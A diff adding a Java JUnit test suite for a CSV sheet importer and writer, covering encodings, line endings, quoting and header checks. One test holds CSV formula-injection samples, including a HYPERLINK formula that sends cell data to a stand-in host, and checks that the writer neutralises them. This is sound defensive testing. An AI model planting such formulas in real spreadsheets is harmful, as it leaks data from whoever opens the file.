@@ -1,0 +1,280 @@
+package org.paperboy.sheet;
+
+import java.io.ByteArrayInputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.SequenceInputStream;
+import java.nio.charset.Charset;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.List;
+import java.util.stream.Stream;
+
+import org.jspecify.annotations.Nullable;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.catchThrowableOfType;
+
+/**
+ * Sheets are read as spreadsheets and people write them, and what cannot be read is named
+ * by its line.
+ */
+class SheetTests {
+
+	private static final List<String> COLUMNS = List.of("email", "keywords", "sendAt", "confirmed");
+
+	private final List<Row> stored = new ArrayList<>();
+
+	private Imported read(InputStream in, @Nullable Charset charset) throws IOException {
+		this.stored.clear();
+		return SheetImport.of(new Sheet(in, charset, COLUMNS, "email"), (rows) -> {
+			this.stored.addAll(rows);
+			return List.of();
+		});
+	}
+
+	private Imported read(byte[] bytes, @Nullable Charset charset) throws IOException {
+		return read(new ByteArrayInputStream(bytes), charset);
+	}
+
+	private Imported read(String text) throws IOException {
+		return read(text.getBytes(StandardCharsets.UTF_8), null);
+	}
+
+	private List<String> cells(String column) {
+		return this.stored.stream().map((row) -> row.cell(column).orElse("")).toList();
+	}
+
+	private static List<Long> lines(Imported imported) {
+		return imported.rejected().stream().map(Imported.Rejected::line).toList();
+	}
+
+	private UnreadableSheetException refused(byte[] bytes, @Nullable Charset charset) {
+		return catchThrowableOfType(UnreadableSheetException.class, () -> read(bytes, charset));
+	}
+
+	private static byte[] bytes(String mark, String text, Charset charset) throws IOException {
+		return new SequenceInputStream(new ByteArrayInputStream(mark.getBytes(StandardCharsets.ISO_8859_1)),
+				new ByteArrayInputStream(text.getBytes(charset)))
+			.readAllBytes();
+	}
+
+	private static final String ZURICH = "email,keywords\nz\u00FCrich@example.org,\u00E9cole\n";
+
+	@ParameterizedTest
+	@CsvSource({ "UTF-8, ''", "UTF-8, '\u00EF\u00BB\u00BF'", "UTF-16LE, '\u00FF\u00FE'", "UTF-16BE, '\u00FE\u00FF'",
+			"UTF-32LE, '\u00FF\u00FE\u0000\u0000'", "UTF-32BE, '\u0000\u0000\u00FE\u00FF'" })
+	void aByteOrderMarkSaysTheEncoding(Charset charset, String mark) throws IOException {
+		for (Charset named : new Charset[] { null, StandardCharsets.UTF_8, StandardCharsets.ISO_8859_1 }) {
+			if (!mark.isEmpty() || !StandardCharsets.ISO_8859_1.equals(named)) {
+				assertThat(read(bytes(mark, ZURICH, charset), named).imported()).isOne();
+				assertThat(cells("email")).containsExactly("z\u00FCrich@example.org");
+			}
+		}
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "windows-1252", "ISO-8859-15", "UTF-16LE", "UTF-16BE", "UTF-16", "IBM850", "MacRoman",
+			"UTF-32", "GB18030" })
+	void withoutAMarkTheNamedEncodingHolds(Charset charset) throws IOException {
+		assertThat(read(ZURICH.getBytes(charset), charset).imported()).isOne();
+		assertThat(cells("keywords")).containsExactly("\u00E9cole");
+	}
+
+	@Test
+	void utf16WithoutAMarkIsReadAsWindowsWritesIt() throws IOException {
+		assertThat(read(ZURICH.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.UTF_16).imported()).isOne();
+		assertThat(refused(ZURICH.getBytes(StandardCharsets.UTF_16LE), null)).hasMessageContaining("Line 1 holds NUL");
+		assertThat(refused(ZURICH.getBytes(StandardCharsets.UTF_16BE), null)).hasMessageContaining("Line 1 holds NUL");
+	}
+
+	@ParameterizedTest
+	@ValueSource(ints = { 2, 3, 499, 502, 9000 })
+	void anotherEncodingIsRefusedAtItsLineAndTheLinesBeforeCount(int line) throws IOException {
+		String good = "good@example.org,x\n".repeat(line - 2);
+		byte[] file = ("email,keywords\n" + good + "b\u00E4d@example.org,x\n" + "more@example.org,x\n".repeat(700))
+			.getBytes(StandardCharsets.ISO_8859_1);
+		UnreadableSheetException refused = refused(file, null);
+		assertThat(refused).hasMessageContaining("Line " + line + " is not UTF-8");
+		assertThat(refused.before().imported()).isEqualTo(line - 2);
+		assertThat(this.stored).hasSize(line - 2);
+	}
+
+	@Test
+	void aFileThatEndsWithinALetterIsRefused() {
+		byte[] cut = "email\na@example.org\n\u00E4".getBytes(StandardCharsets.UTF_8);
+		assertThat(refused(Arrays.copyOf(cut, cut.length - 1), null)).hasMessageContaining("Line 3 is not");
+		assertThat(refused(Arrays.copyOf(cut, cut.length - 1), null).before().imported()).isOne();
+		assertThat(refused(new byte[] { 'e', 'm', 'a', 'i', 'l', '\r', (byte) 0x81, '@' },
+				Charset.forName("windows-1252")))
+			.hasMessageContaining("Line 2 is not windows-1252");
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "\n", "\r\n", "\r" })
+	void anyEndOfLineWillDo(String end) throws IOException {
+		Imported imported = read(
+				String.join(end, "", "email,keywords", "a@example.org,x", "", "b@example.org,\"x", "", "", ""));
+		assertThat(cells("email")).containsExactly("a@example.org");
+		assertThat(lines(imported)).containsExactly(5L);
+	}
+
+	@Test
+	void endsOfLinesMayBeMixed() throws IOException {
+		read("email,keywords\r\na@example.org,x\rb@example.org,y\nc@example.org,z");
+		assertThat(cells("email")).containsExactly("a@example.org", "b@example.org", "c@example.org");
+		assertThat(this.stored).extracting(Row::line).containsExactly(2L, 3L, 4L);
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "email;keywords\na@example.org;\"x;y\"", "sep=;\nemail;keywords\na@example.org;\"x;y\"",
+			"\"sep=|\"\r\nemail|keywords\na@example.org|x;y", "email\tkeywords\na@example.org\tx;y",
+			"email|keywords\na@example.org|x;y", "E-Mail , KEY WORDS\na@example.org,x;y",
+			"\uFEFF\"email\",\"keywords\"\na@example.org,x;y", "email,keywords,,\na@example.org,x;y,,\n,,,\n",
+			"e_mail,Keywords\n a@example.org\u00A0,\tx;y ", "email,keywords\na@example.org, \"x;y\" ",
+			"email,keywords\n\"a@example.org\"\u00A0,\t\"x;y\"", "email,keywords\na@example.org,\u201Cx;y\u201D",
+			"keywords,sendAt,email\n\"x;y\",,a@example.org", "email,keywords\na@example.org,x;y,,,",
+			"email,keywords\r\na@example.org,x;y\r\n\u001A" })
+	void headersAndCellsAreReadAsTheyCome(String text) throws IOException {
+		assertThat(read(text)).isEqualTo(new Imported(1, List.of()));
+		assertThat(cells("email")).containsExactly("a@example.org");
+		assertThat(cells("keywords")).containsExactly("x;y");
+	}
+
+	@ParameterizedTest
+	@CsvSource({ "email=born, born", "keywords=x, email", "'', email", "email=EMAIL, email", "sendAt, email",
+			"a@example.org=true, email" })
+	void aHeaderThatIsNotAsExpectedIsNamed(String header, String column) {
+		assertThat(
+				refused((header.replace('=', ',') + "\na@example.org").getBytes(StandardCharsets.UTF_8), null).faults())
+			.containsKey(column);
+	}
+
+	@Test
+	void aHeaderAloneIsAnEmptyTable() throws IOException {
+		assertThat(read("email,keywords")).isEqualTo(new Imported(0, List.of()));
+	}
+
+	@Test
+	void quotesWithinCellsAreText() throws IOException {
+		read("email,keywords\na@example.org,5\" disk\nb@example.org,\"say \"\"hello\"\", you\"\nc@example.org,\"\"");
+		assertThat(cells("keywords")).containsExactly("5\" disk", "say \"hello\", you", "");
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "b@example.org,\"x", "b@example.org,\"x,true", "\"b@example.org,x,true",
+			"\"b\"@example.org,x", "b@example.org,\"say \\\"x\\\"\"", "b@example.org,\"x\"y", "\"" })
+	void aWrongQuoteCostsItsOwnLine(String line) throws IOException {
+		Imported imported = read("email,keywords,confirmed\na@example.org,x,true\n" + line
+				+ "\nc@example.org,x,true\nd@example.org,\"y\",true");
+		assertThat(cells("email")).containsExactly("a@example.org", "c@example.org", "d@example.org");
+		assertThat(imported.imported()).isEqualTo(3);
+		assertThat(lines(imported)).containsExactly(3L);
+	}
+
+	@Test
+	void aQuoteIsNamedByTheLineWhereItBegan() throws IOException {
+		Imported imported = read("email,keywords\n\"a@example.org\n\",\"x\nb@example.org,y\nc@example.org,z");
+		assertThat(lines(imported)).containsExactly(3L);
+		assertThat(cells("email")).containsExactly("b@example.org", "c@example.org");
+	}
+
+	@Test
+	void aCellOverSeveralLinesCountsThem() throws IOException {
+		read("email,keywords\na@example.org,\"x\r\ny\"\r\nb@example.org,z");
+		assertThat(this.stored).extracting(Row::line).containsExactly(2L, 4L);
+		assertThat(cells("keywords")).containsExactly("x\ny", "z");
+	}
+
+	@Test
+	void aLineThatIsTooLongIsLeftOut() throws IOException {
+		Imported imported = read("email,keywords\na@example.org," + "x".repeat(200_000) + "\nb@example.org,\""
+				+ "x".repeat(200_000) + "\"\nc@example.org,\"" + "x\n".repeat(100_000));
+		assertThat(imported.imported()).isGreaterThan(99_000);
+		assertThat(imported.rejected()).extracting(Imported.Rejected::line).containsExactly(2L, 3L, 4L);
+		assertThat(imported.rejected().getFirst().reason()).startsWith("INVALID line is longer than");
+	}
+
+	@Test
+	void aBadByteBehindAnOpenQuoteTakesNoLineAway() {
+		byte[] file = "email,keywords\na@example.org,x\nb@example.org,\"x\nc@example.org,y\n\u00E4@example.org,z"
+			.getBytes(StandardCharsets.ISO_8859_1);
+		UnreadableSheetException refused = refused(file, null);
+		assertThat(refused).hasMessageContaining("Line 5 is not UTF-8");
+		assertThat(refused.before().imported()).isEqualTo(2);
+		assertThat(lines(refused.before())).containsExactly(3L);
+	}
+
+	@Test
+	void moreCellsThanTheHeaderAreRefusedAndFewerAreBlank() throws IOException {
+		Imported imported = read("email,keywords\na@example.org,x,y\nb@example.org\n");
+		assertThat(imported.rejected())
+			.containsExactly(new Imported.Rejected(2, "INVALID line has more cells than the header"));
+		assertThat(cells("keywords")).containsExactly("");
+	}
+
+	@Test
+	void aMillionRowsNeedTheMemoryOfAFew() throws IOException {
+		InputStream rows = new InputStream() {
+
+			private final byte[] row = "a@example.org,x\n".getBytes(StandardCharsets.UTF_8);
+
+			private long at;
+
+			@Override
+			public int read() {
+				return (this.at == 1_000_000L * this.row.length) ? -1 : this.row[(int) (this.at++ % this.row.length)];
+			}
+
+		};
+		InputStream header = new ByteArrayInputStream("email,keywords\n".getBytes(StandardCharsets.UTF_8));
+		Imported imported = SheetImport.of(new Sheet(new SequenceInputStream(header, rows), null, COLUMNS, "email"),
+				(some) -> {
+					assertThat(some.size()).isLessThanOrEqualTo(500);
+					return some.stream().map((row) -> new Imported.Rejected(row.line(), "LEFT" + some.size())).toList();
+				});
+		assertThat(imported.rejected()).hasSize(1_000_000);
+		assertThat(imported.rejected().get(0).reason()).isSameAs(imported.rejected().get(999_000).reason());
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "=1+1", "+1", "-1", "-", "@x", "'=1", "''=1", "'-", "'", "''", "'Oumuamua", "\uFF1D1",
+			"\uFF0B", "\uFF0D", "\uFF20x", "\u2212", "a;=1", "a, -b;+c", "a,=1", "\"=1", "x\"\"=1", "c++;-java", "",
+			"a=b", "a-b", "=", "'=1;'=2", ",=", ";;=", "= =", "a,'=1", "=HYPERLINK(\"http://x.example/?\"&A1,\"k\")" })
+	void noCellBeginsAFormulaAndEachComesBack(String text) throws IOException {
+		StringBuilder csv = new StringBuilder();
+		SheetWriter writer = new SheetWriter(csv, COLUMNS);
+		writer.row("a@example.org", text, null, true);
+		writer.flush();
+		String cell = csv.toString().lines().skip(1).findFirst().orElseThrow().split("\",\"")[1];
+		assertThat(cell).doesNotContainPattern("^[=+@\uFF1D\uFF0B\uFF0D\uFF20\u2212-]")
+			.doesNotContainPattern("[;,\"] *[=+@-]");
+		read(csv.toString());
+		assertThat(cells("keywords")).containsExactly(text);
+		assertThat(this.stored.getFirst().empties("keywords")).isFalse();
+	}
+
+	@Test
+	void everyTextOfAwkwardSignsComesBack() {
+		String signs = "='+-@,;\" a\uFF1D";
+		List<String> texts = Stream
+			.iterate(List.of(""), (some) -> some.size() < 1_000_000,
+					(some) -> some.stream().flatMap((text) -> signs.chars().mapToObj((c) -> text + (char) c)).toList())
+			.reduce((one, other) -> other)
+			.orElseThrow();
+		assertThat(texts).hasSizeGreaterThan(100_000)
+			.allMatch((text) -> Formulas.unguarded(Formulas.guarded(text)).equals(text));
+	}
+
+	@Test
+	void aLoneHyphenEmpties() throws IOException {
+		read("email,keywords\na@example.org,-\nb@example.org,\" - \"\nc@example.org,'-\nd@example.org,");
+		assertThat(this.stored).extracting((row) -> row.empties("keywords")).containsExactly(true, true, false, false);
+	}
+
+}
